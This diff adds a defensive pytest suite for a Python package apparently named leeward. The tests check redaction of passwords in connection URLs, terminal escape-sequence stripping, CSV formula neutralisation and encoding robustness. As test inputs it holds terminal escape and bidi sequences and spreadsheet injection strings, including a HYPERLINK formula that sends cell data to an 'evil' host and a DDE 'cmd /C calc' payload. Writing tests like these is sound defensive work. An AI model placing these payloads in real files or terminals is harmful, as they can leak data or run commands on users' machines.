@@ -1,0 +1,419 @@
+"""Names that others chose steer no terminal, tell no password, start no formula, and are written in any encoding."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import json
+import os
+import pickle
+import re
+import subprocess
+import sys
+import unicodedata
+from collections.abc import Callable
+from dataclasses import fields
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pyarrow as pa
+import pyarrow.csv as pa_csv
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from tests.shown import commands
+from tests.shown.canaries import everything_said
+from tests.shown.commands import House, Names
+
+import leeward as lw
+from leeward.errors import LeewardError
+from leeward.plain import plain, plain_lines, shown, told, without_passwords
+from leeward.sheets import Writer, cell, harmless
+
+SOURCE = Path(lw.__file__).parent
+
+OSC, CSI, C1, BIDI = "\x1b]0;owned\x07", "\x1b[2J\x1b[1;1H", "\x9b31m\x90\x9d", "\u202e\u2066\u200f"
+EVIL = f"a{OSC}b{CSI}c{C1}d{BIDI}e\r\x08f\x7fg\u2028h"
+STEERING = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")
+"""What steers a terminal, written anew: all controls but the line's end, marks of direction, halves of pairs."""
+
+HOSTILE = Names(*(f"{name.name}{EVIL}" for name in fields(Names)))
+FOREIGN = Names(*(f"{name.name} é ε 東京 ≤ 😀" for name in fields(Names)))
+
+
+# ---- the words themselves
+
+
+@given(st.text())
+def test_plain_text_steers_nothing_and_stays_readable(text: str) -> None:
+    written = plain(text)
+    assert not STEERING.search(written)
+    assert "\n" not in written
+    assert plain(written) == written
+    kept = [c for c in text if unicodedata.category(c) not in {"Cc", "Cf", "Cs", "Zl", "Zp"}]
+    rest = iter(written)
+    assert all(character in rest for character in kept), "what is harmless is all there, in its order"
+
+
+def test_what_is_harmless_stays_as_it_is() -> None:
+    for text in ("Kōen", "東京", "می\u200cخواهم", "👨\u200d👩\u200d👧", "a\\x1b", "naïve — “quoted”"):
+        assert plain(text) == text
+    assert plain_lines("one\ntwo\x1b") == "one\ntwo\\x1b"
+    assert plain("\x1b") == "\\x1b"
+
+
+PASSWORDS = ["hunter2", "p@ss", "a/b", "a:b", "with space", "qu'ote", "ünï", "100%", "a#b?c", "x://y"]
+
+
+@pytest.mark.parametrize(
+    "scheme", ["postgresql", "postgresql+psycopg", "mysql", "https", "s3", "redis", "sqlite", "jdbc:x"]
+)
+@pytest.mark.parametrize("password", PASSWORDS)
+def test_no_password_of_an_address_is_shown(scheme: str, password: str) -> None:
+    secret = f"SECRET{password}SECRET"
+    for address in (
+        f"{scheme}://me:{secret}@host:5432/db",
+        f"{scheme}://:{secret}@host/db",
+        f"{scheme}://{secret}@host/db",
+        f"The source '{scheme}://me:{secret}@host/db': it is refused",
+        f"['{scheme}://a:{secret}@h', '{scheme}://b:{secret}@h']",
+    ):
+        assert "SECRET" not in without_passwords(address), address
+        assert "SECRET" not in str(LeewardError(address, address, address))
+        assert scheme in without_passwords(address)
+    plain_secret = re.sub(r"\W", "", secret)
+    for address in (f"{scheme}://h/db?user=me&password={plain_secret}&x=1", f"host=h password={plain_secret} dbname=d"):
+        assert "SECRET" not in without_passwords(address)
+    assert "SECRET" not in without_passwords(f"{scheme}://h/db?token={plain_secret}")
+
+
+def test_what_is_no_password_is_shown() -> None:
+    for text in (
+        "see https://example.org/a?b=c",
+        "sqlite:///budget.db",
+        "someone@example.org",
+        'secret = "people.key"',
+    ):
+        assert without_passwords(text) == text
+
+
+def test_an_argument_is_told_by_its_kind_where_its_text_would_be_its_rows() -> None:
+    frame = pd.DataFrame({"a": ["SECRET"]})
+    for held in (
+        frame,
+        frame["a"],
+        pa.table(frame),
+        ["SECRET"],
+        {"SECRET": 1},
+        frame.to_numpy(),
+        ("SECRET",),
+        b"SECRET",
+    ):
+        assert "SECRET" not in told(held)
+    assert told(frame) == "a DataFrame"
+    assert told(["x"]) == "a list"
+    assert told("x") == "'x'"
+    assert told(3) == "3"
+    assert told(lw.Geometric) == "the class Geometric"
+    assert told("y" * 1000) == f"'{'y' * 80}…'"
+    assert told(lw.AdditionOnly("1")) == repr(lw.AdditionOnly("1"))
+    assert told(Path("a\x1bb")) == "'a\\x1bb'"
+
+
+# ---- the command
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> House:
+    return commands.house(tmp_path_factory.mktemp("hostile"), HOSTILE)
+
+
+def test_no_command_lets_a_name_steer_the_terminal(hostile: House) -> None:
+    for name, words in hostile.commands.items():
+        code, out, err = hostile.run(words)
+        assert code == 0, (name, err)
+        assert not STEERING.search(out + err), (name, STEERING.search(out + err))
+    _, out, _ = hostile.run(hostile.commands["budget show"])
+    assert "dataseta\\x1b]0;owned\\x07b" in re.sub(r"\s", "", out), "it is shown all the same"
+
+
+def test_no_refusal_lets_a_name_steer_the_terminal(hostile: House) -> None:
+    hostile.run(hostile.commands["release"])
+    for name, words in commands.refused(hostile).items():
+        code, out, err = hostile.run(words)
+        assert code == 2, (name, out, err)
+        assert not STEERING.search(out + err), (name, STEERING.search(out + err))
+        assert err.startswith("leeward: "), (name, err)
+        assert err.count("\n") == 1, (name, err)
+
+
+def test_nothing_that_python_prints_lets_a_name_steer_the_terminal(tmp_path: Path) -> None:
+    n = HOSTILE
+    visits = pd.DataFrame({n.person: ["p"], n.place: [n.market], n.time: pd.Timestamp("2026-01-01T18:30")})
+    asked = lw.visits(visits, person=n.person, place=n.place, time=n.time, keep={n.place: [n.market]})
+    places = lw.places(pd.DataFrame({n.place: [n.market]}), place=n.place)
+    query = lw.count_visitors(asked, places, start="2026-01-01T18:00", end="2026-01-01T19:00", places_per_person=1)
+    budget = lw.Budget(tmp_path / "budget.db", dataset=n.dataset, cap="9")
+    result = lw.release(query, lw.AdditionOnly("1"), safe_at_most=2, budget=budget)
+    statistic = lw.statistic(lw.records(visits), "histogram", by=n.place, groups=[n.market])
+    numbers = lw.release(statistic, lw.UnboundedDP("1"), budget=lw.Budget(budget.ledger, f"{n.dataset} 2", "9"))
+    compared = lw.compare(query, lw.AdditionOnly("1"), safe_at_most=2)
+    adp = lw.ADP("1", policies=[~lw.has(n.market), lw.where(n.place, equals=n.market)])
+    made = [
+        asked,
+        places,
+        query,
+        budget,
+        result,
+        statistic,
+        numbers,
+        compared,
+        lw.recommend(compared),
+        adp,
+        lw.has(n.market),
+    ]
+    made += [lw.plan(query, lw.AdditionOnly("1"), safe_at_most=2), lw.plan_number(statistic, lw.UnboundedDP("1"))]
+    for one in made:
+        for text in (repr(one), str(one), f"{one}"):
+            assert not STEERING.search(text), type(one)
+
+
+def test_the_search_for_what_steers_can_fail() -> None:
+    for what in (OSC, CSI, C1, BIDI, "\r", "\x7f", "\u2028"):
+        assert STEERING.search(f"a{what}b")
+    assert not STEERING.search("a plain line\nand another: 東京 ≤ 😀")
+
+
+def test_only_one_module_of_the_command_prints() -> None:
+    for path in sorted((SOURCE / "cli").glob("*.py")):
+        if path.name == "output.py":
+            continue
+        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
+            if isinstance(node, ast.Call):
+                called = ast.unparse(node.func)
+                assert called not in {"print", "typer.echo", "typer.secho", "sys.stdout.write", "sys.stderr.write"}, (
+                    path
+                )
+    printing = re.compile(r"^\s*(from rich|import rich)", re.MULTILINE)
+    apart = [
+        p.name
+        for p in (SOURCE / "cli").glob("*.py")
+        if printing.search(re.sub(r"if TYPE_CHECKING:(\n    .*)+", "", p.read_text("utf-8")))
+    ]
+    assert apart == ["output.py"]
+
+
+# ---- passwords
+
+
+def _refusal(use: Callable[[str], Any], url: str) -> LeewardError | None:
+    try:
+        use(url)
+    except LeewardError as error:
+        return error
+    return None
+
+
+def test_no_error_of_the_package_tells_a_password(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from leeward.engine import open_data, read_keys, read_places
+    from leeward.ledger import Ledger
+    from leeward.perturb import check_job
+    from leeward.spec import check_spec
+
+    monkeypatch.chdir(tmp_path)
+    listed = lw.places(pd.DataFrame({"v": ["a"]}), place="v")
+    window = {"start": "2026-01-01", "end": "2026-01-02"}
+
+    def ask(source: Any) -> Any:
+        query = lw.count_visitors(lw.visits(source, person="p", place="v", time="t"), listed, **window)
+        with open_data(query, read_keys(query)):
+            pass
+
+    secret, refused = "hunter2", list[tuple[str, str, LeewardError]]()
+    places = {
+        "a table": ask,
+        "several tables": lambda url: ask([url, url]),
+        "the places": lambda url: read_places(lw.places(url, place="v")),
+        "a ledger": Ledger,
+        "a budget": lambda url: lw.Budget(url, "d", "1"),
+        "a spec's table": lambda url: check_spec(
+            {"data": {"visits": url, "person": url}, "protect": url}
+        ),  # ill-formed
+        "a job's table": lambda url: check_job(
+            {
+                "perturb": {"kind": "location"},
+                "data": {"table": url, "latitude": "a", "longitude": "b"},
+                "box": {"west": 139.3, "south": 35.3, "east": 140.2, "north": 36.1},
+                "protect": {"within": "200 m", "factor": "2"},
+            },
+            folder=tmp_path,
+        ).run(tmp_path / "o.parquet", lambda _stage, _done: None),
+    }
+    for name, use in places.items():
+        for scheme in ("postgresql", "mysql+pymysql", "sqlite", "duckdb", "https", "snowflake", "x y"):
+            for url in (f"{scheme}://me:{secret}@h:bad port/d", f"{scheme}://me:{secret}@h/d?password={secret}"):
+                if (error := _refusal(use, url)) is not None:  # "x y:" starts no address: it may be a path
+                    refused.append((name, url, error))
+    assert len(refused) >= 60
+    for name, url, error in refused:
+        assert secret not in everything_said(error), (name, url)
+        assert secret.encode() not in pickle.dumps(error)
+    assert secret not in repr(lw.visits(f"postgresql://me:{secret}@h/d", person="p", place="v", time="t"))
+
+
+# ---- spreadsheets
+
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "＝1+1",
+    "-1\n=2",
+]
+HARMLESS = ["market", "", " =1", "-1", "+81", "-.5e-3", "1e9", "a=b", "'=1", "5-3", "é"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_is_written_as_text(text: str) -> None:
+    assert cell(text) == f"'{text}"
+    for kind in (pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())):
+        column = (
+            pa.array([text, None, "market"]).cast(kind)
+            if not pa.types.is_dictionary(kind)
+            else pa.array([text, None, "market"]).dictionary_encode()
+        )
+        assert harmless(pa.table({text: column})).to_pydict() == {f"'{text}": [f"'{text}", None, "market"]}
+
+
+def test_what_is_no_formula_is_written_as_it_is() -> None:
+    for text in HARMLESS:
+        assert cell(text) == text
+    assert harmless(pa.table({"a": HARMLESS, "b": range(len(HARMLESS))})).to_pydict()["a"] == HARMLESS
+
+
+def _csv_fields(path: Path) -> list[str]:
+    with path.open(encoding="utf-8-sig", newline="") as lines:
+        return [field for row in csv.reader(lines) for field in row]
+
+
+def test_no_csv_of_ours_holds_a_formula(tmp_path: Path) -> None:
+    formula = FORMULAS[0]
+    made = commands.house(tmp_path, Names(*(formula.replace("/", "") + name.name for name in fields(Names))))
+    for name, words in made.commands.items():
+        if "csv" in name:
+            code, _, err = made.run(words)
+            assert code == 0, (name, err)
+    result = _named_result(tmp_path, formula)
+    result.to_csv(tmp_path / "answers.csv")
+    assert result.to_pandas()["place"].tolist() == [formula], "in memory it stays what it is"
+    written = [path for path in tmp_path.rglob("*.csv") if path.name not in {"visits.csv", "readings.csv"}]
+    assert len(written) == 4
+    for path in written:
+        found = _csv_fields(path)
+        assert any(text.startswith("'=") for text in found), path
+        assert not any(text[:1] in tuple("=@\t\r") for text in found), path
+    # the table to perturb held them, so the search can fail
+    assert any(text.startswith("=") for text in _csv_fields(next(tmp_path.rglob("visits.csv"))))
+
+
+def _named_result(folder: Path, place: str) -> lw.Release:
+    visits = pd.DataFrame({"p": ["a"], "v": [place], "t": pd.Timestamp("2026-01-01T18:30")})
+    query = lw.count_visitors(
+        lw.visits(visits, person="p", place="v", time="t"),
+        lw.places(pd.DataFrame({"v": [place]}), place="v"),
+        start="2026-01-01T18:00",
+        end="2026-01-01T19:00",
+        places_per_person=1,
+    )
+    budget = lw.Budget(folder / "own.db", dataset="d", cap="9")
+    return lw.release(query, lw.AdditionOnly("1"), safe_at_most=2, budget=budget)
+
+
+def test_csv_is_written_in_one_place(tmp_path: Path) -> None:
+    writes = re.compile(r"csv\.writer|\.to_csv\(|\bwrite_csv\(|DictWriter")
+    found = {path.name for path in SOURCE.rglob("*.py") if writes.search(path.read_text("utf-8"))}
+    assert found == {"sheets.py"}
+    with (tmp_path / "a.csv").open("w", newline="", encoding="utf-8") as file:
+        Writer(file).rows([["=1", 2, None], ["-1", 0.5, "x"]])
+    assert (tmp_path / "a.csv").read_text() == "'=1,2,\n-1,0.5,x\n"
+    assert pa_csv.read_csv(tmp_path / "a.csv").num_rows == 1
+
+
+# ---- encodings
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "shift-jis", "utf-8", "utf-16-le"])
+def test_every_command_writes_in_any_encoding(encoding: str, tmp_path: Path) -> None:
+    made = commands.house(tmp_path, FOREIGN)
+    for name, words in made.commands.items():
+        code, out, err = made.run(words, encoding)
+        assert code == 0, (name, err)
+        if "--json" in words:
+            said = json.loads(out)
+            if name == "budget show --json":
+                assert FOREIGN.dataset in {row["dataset"] for row in said}, "JSON is exact in every encoding"
+    for name, words in commands.refused(made).items():
+        code, out, err = made.run(words, encoding)
+        assert code == 2, (name, out, err)
+        assert err.startswith("leeward: "), (name, err)
+
+
+def test_greek_letters_have_names_where_they_cannot_be_written(tmp_path: Path) -> None:
+    made = commands.house(tmp_path)
+    _, out, _ = made.run(made.commands["release --dry-run"], "ascii")
+    assert "addition-only, epsilon = 1" in out
+    assert "\\u" not in out, "every sign of our own sentences has letters"
+    for name in (
+        "plan",
+        "plan --json",
+        "perturb parquet --dry-run",
+        "perturb csv readings --dry-run",
+        "release a mean --dry-run",
+    ):
+        _, out, _ = made.run(made.commands[name], "ascii")
+        assert "\\u" not in out or "--json" in name, name
+
+
+PLACES = [
+    {"LC_ALL": "C"},
+    {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
+    {"PYTHONIOENCODING": "ascii"},
+    {"PYTHONIOENCODING": "latin-1:strict"},
+    {"PYTHONIOENCODING": "cp1252"},
+]
+
+
+@pytest.mark.parametrize("place", PLACES, ids=lambda place: " ".join(f"{k}={v}" for k, v in place.items()))
+def test_the_installed_command_runs_in_any_locale(place: dict[str, str], tmp_path: Path) -> None:
+    made = commands.house(tmp_path)
+    kept = {
+        key: value for key, value in os.environ.items() if not key.startswith(("LC_", "LANG", "PYTHONIO", "PYTHONUTF8"))
+    }
+    for name in ("release --dry-run", "release", "plan", "perturb parquet --dry-run", "budget history", "--help"):
+        words = [sys.executable, "-m", "leeward", *made.commands.get(name, [name])]
+        run = subprocess.run(words, env=kept | place, cwd=tmp_path, capture_output=True, check=False)
+        assert run.returncode == 0, (name, run.stderr)
+        assert run.stdout.isascii() or place == {"LC_ALL": "C"} or "latin-1" in str(place) or "cp1252" in str(place)
+
+
+def test_files_are_opened_in_an_encoding_that_is_named() -> None:
+    """A spec, a statement and a mark are UTF-8 wherever they are read: none is opened in the encoding of the machine."""
+    for path in sorted(SOURCE.rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
+            if not isinstance(node, ast.Call):
+                continue
+            called = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
+            said = [ast.unparse(argument) for argument in node.args] + [k.arg or "" for k in node.keywords]
+            binary = any(text.strip("'\"") in {"rb", "wb", "ab", "xb"} for text in said)
+            if called in {"read_text", "write_text"}:
+                assert "encoding" in said or any("utf" in text for text in said), (path.name, ast.unparse(node))
+            if called == "open" and not ast.unparse(node.func).startswith(("os.", "gzip.", "self.", "webbrowser.")):
+                assert binary or "encoding" in said, (path.name, ast.unparse(node))
+
+
+def test_shown_is_both() -> None:
+    assert shown("x://u:p@h\x1b") == "x://***@h\\x1b"
